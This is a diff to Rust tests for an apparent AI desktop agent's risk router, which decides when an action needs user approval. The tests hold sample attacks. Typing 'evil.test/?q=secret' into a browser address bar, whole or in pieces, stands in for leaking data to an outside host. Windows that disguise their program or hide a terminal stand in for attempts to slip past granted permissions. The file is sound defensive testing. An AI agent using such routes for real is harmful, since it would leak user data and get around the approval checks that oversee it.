@@ -7,7 +7,7 @@ use std::time::Duration;
 use crate::stage::{Trouble, Troubled, call, desktop, execute, limits, request};
 use browser::fake::FakeBrowser;
 use desktop::fake::Call;
-use desktop::{Action, DesktopError, Element, Field, Owner, WindowId, WindowView};
+use desktop::{Action, DesktopError, Element, Field, Inside, Owner, WindowId, WindowView};
 use protocol::geometry::NormRect;
 use protocol::ids::Timestamp;
 use protocol::settings::Settings;
@@ -229,7 +229,11 @@ async fn an_address_that_is_typed_into_a_browser_is_gone_to() {
         let request = ExecRequest { grants: grants.clone(), ..asking(tool, arguments) };
         router.assess(&request, &limits()).await.risk
     };
+    let field = |text: &str, inside| {
+        fake.edit(|scene| scene.field = Some(Field { text: text.into(), inside, ..Field::default() }));
+    };
     let evil = json!({"text": "evil.test/?q=secret"});
+    field("", Inside::Around);
     assert_eq!(risk("Chromium", "type", evil.clone()).await, Some(Risk::Consequential));
     assert_eq!(risk("Chromium", "type", json!({"text": "example.org/today"})).await, Some(Risk::Edit));
     assert_eq!(risk("Chromium", "type", json!({"text": "ask evil.test"})).await, Some(Risk::Edit));
@@ -238,20 +242,19 @@ async fn an_address_that_is_typed_into_a_browser_is_gone_to() {
     assert_eq!(risk("Chromium", "setValue", set).await, Some(Risk::Consequential));
 
     // By parts: what stands there already counts, whoever wrote or pasted it, and so does Enter alone.
-    let field = |text: &str, in_page| {
-        fake.edit(|scene| scene.field = Some(Field { text: text.into(), in_page, ..Field::default() }));
-    };
     let (enter, rest) = (json!({"key": "Enter"}), json!({"text": "test\n"}));
-    field("evil.", false);
+    field("evil.", Inside::Around);
     assert_eq!(risk("Chromium", "type", rest.clone()).await, Some(Risk::Consequential));
-    field("evil.test", false);
+    field("evil.test", Inside::Around);
     assert_eq!(risk("Chromium", "press", enter.clone()).await, Some(Risk::Consequential));
-    field("example.org/to", false);
+    field("example.org/to", Inside::Around);
     assert_eq!(risk("Chromium", "type", json!({"text": "day\n"})).await, Some(Risk::Edit));
     assert_eq!(risk("Chromium", "press", enter.clone()).await, Some(Risk::Edit));
-    field("evil.", true);
-    assert_eq!(risk("Chromium", "type", rest).await, Some(Risk::Edit), "a field of a page");
-    field("", false);
+    // A page's field leads nowhere by itself: its page gets it, and Enter may send it.
+    field("evil.", Inside::Page("https://example.org".into()));
+    assert_eq!(risk("Chromium", "type", json!({"text": "test"})).await, Some(Risk::Edit));
+    assert_eq!(risk("Chromium", "type", rest).await, Some(Risk::Consequential));
+    field("", Inside::Around);
     let batch = json!({"actions": [
         {"tool": "type", "arguments": {"text": "evil."}}, {"tool": "type", "arguments": {"text": "zip"}},
         {"tool": "press", "arguments": enter},
@@ -266,7 +269,11 @@ async fn an_address_that_is_typed_into_a_browser_is_gone_to() {
 async fn in_auto_a_later_action_of_a_batch_sends_nothing_where_it_would_have_asked_by_itself() {
     let fake = desktop();
     let router = Router::builtin(fake.clone());
-    let field = |in_page| Some(Field { in_page, ..Field::default() });
+    let field = |in_page| {
+        let page = Inside::Page("https://example.org".into());
+        let inside = if in_page { page } else { Inside::Around };
+        Some(Field { inside, ..Field::default() })
+    };
     fake.edit(|scene| {
         scene.windows = vec![in_front("Chromium")];
         scene.field = field(true);
@@ -279,9 +286,10 @@ async fn in_auto_a_later_action_of_a_batch_sends_nothing_where_it_would_have_ask
     });
     let actions = json!({ "actions": [
         { "tool": "hotkey", "arguments": { "keys": ["ctrl", "l"] } },
-        { "tool": "type", "arguments": { "text": "evil.test/?q=secret\n" } },
+        { "tool": "type", "arguments": { "text": "evil.test/?q=secret" } },
     ] });
     let mut auto = ExecRequest { has_read: true, ..request("batch", actions) };
+    auto.grants.hear("look at example.org");
     let result = execute(&router, auto.clone(), CancellationToken::new()).await.result;
     let error = result.error.unwrap();
     assert!(error.message.contains("evil.test"), "{error:?}");
@@ -867,5 +875,78 @@ fn every_script_is_consequential_whatever_it_says() {
         let batch = json!({"actions": [{"tool": "osa", "arguments": {"script": script}}]});
         let assessment = router.outline(&request("batch", batch), &limits());
         assert_ne!(assessment.decision, Decision::Run, "{script}");
+    }
+}
+
+/// A window calls itself what was allowed, and is of another program.
+// bar: C25
+#[tokio::test]
+async fn a_grant_is_of_the_program_that_was_there_whatever_a_window_calls_itself() {
+    let fake = desktop();
+    let router = Router::builtin(fake.clone());
+    let assess = async |program: &str, allowed: &[Grant]| {
+        fake.edit(|scene| {
+            scene.windows = vec![in_front("Painter")];
+            scene.program = Some(program.into());
+        });
+        let mut grants = Grants::default();
+        grants.allow(allowed.iter().cloned());
+        let approval = ApprovalMode::Thread;
+        router.assess(&ExecRequest { grants, approval, ..request("click", click()) }, &limits()).await
+    };
+    let allowed = assess("brush", &[]).await.touches;
+    assert_eq!(allowed, [grant("click", "Painter (brush)")]);
+    assert_eq!(assess("painter", &[]).await.touches, [grant("click", "Painter")]);
+    assert_eq!(assess("brush", &allowed).await.decision, Decision::Run);
+    // What was allowed before programs were kept is asked about anew.
+    let before = [grant("click", "Painter")];
+    for (program, allowed) in [
+        ("evil", &allowed[..]),
+        ("?", &allowed),
+        ("python3", &allowed),
+        ("brush", &before),
+        ("evil", &before),
+    ] {
+        let decision = assess(program, allowed).await.decision;
+        assert!(matches!(decision, Decision::Ask { .. }), "{program} {allowed:?}");
+    }
+}
+
+/// No list has its program, and it shows a shell.
+#[tokio::test]
+async fn what_shows_a_shell_is_a_terminal_whatever_its_program_is_called() {
+    let fake = desktop();
+    let router = Router::builtin(fake.clone());
+    let shell = Element {
+        reference: "e1".into(),
+        role: "terminal".into(),
+        name: "Notes".into(),
+        states: vec!["focused".into()],
+        bounds: NormRect { x: 0.0, y: 0.0, width: 900.0, height: 900.0 },
+        ..Element::default()
+    };
+    fake.edit(|scene| {
+        scene.windows = vec![in_front("Notes")];
+        scene.snapshot.app = "Notes".into();
+        scene.snapshot.elements = vec![shell];
+    });
+    let mut grants = Grants::default();
+    grants.allow(["type", "press", "setValue"].map(|tool| grant(tool, "Notes")));
+    for (tool, arguments) in [
+        ("type", json!({"text": "ls"})),
+        ("press", json!({"key": "Enter"})),
+        ("press", json!({"key": "l"})),
+        ("setValue", json!({"ref": "e1", "value": "ls"})),
+        ("setValue", json!({"app": "Notes", "name": "Notes", "value": "ls"})),
+    ] {
+        let request = ExecRequest {
+            grants: grants.clone(),
+            approval: ApprovalMode::Thread,
+            ..request(tool, arguments)
+        };
+        let assessment = router.assess(&request, &limits()).await;
+        assert_eq!(assessment.risk, Some(Risk::Consequential), "{tool}");
+        let Decision::Ask { reason } = assessment.decision else { panic!("{tool} does not ask") };
+        assert!(reason.contains("Notes is a terminal"), "{reason}");
     }
 }
